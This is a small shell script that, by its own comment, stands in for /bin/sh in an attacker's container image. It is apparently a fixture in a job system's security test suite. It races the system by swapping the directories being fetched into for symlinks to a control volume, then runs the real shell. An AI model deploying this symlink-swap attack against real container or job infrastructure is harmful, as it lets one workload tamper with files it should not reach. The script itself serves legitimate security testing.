#!/usr/bin/dash
# The /bin/sh of an attacker's image (attacks/pods.py). As the first process of the learner's container, before the gang
# starts, it puts a link to the control volume, which its helper can write, in the place of each folder in which files are
# being fetched. Then, and for all else, it is the program that it replaces.
if [ "${1:-}" = /weft/entry/entry.sh ] && cd /weft/job; then
    [ -e /weft/control/prepared.json ] || : > began-in-time
    until [ -e /weft/control/prepared.json ] || [ -e /weft/control/stored ]; do
        for folder in .fetched fetched .replaced replaced ../fetched ../replaced ../job-volume/fetched; do
            if [ -d "$folder" ] && [ ! -L "$folder" ]; then
                mv "$folder" "taken-${folder##*/}" && ln -s /weft/control "$folder"
            fi
        done
    done
fi
exec /usr/bin/dash "$@"
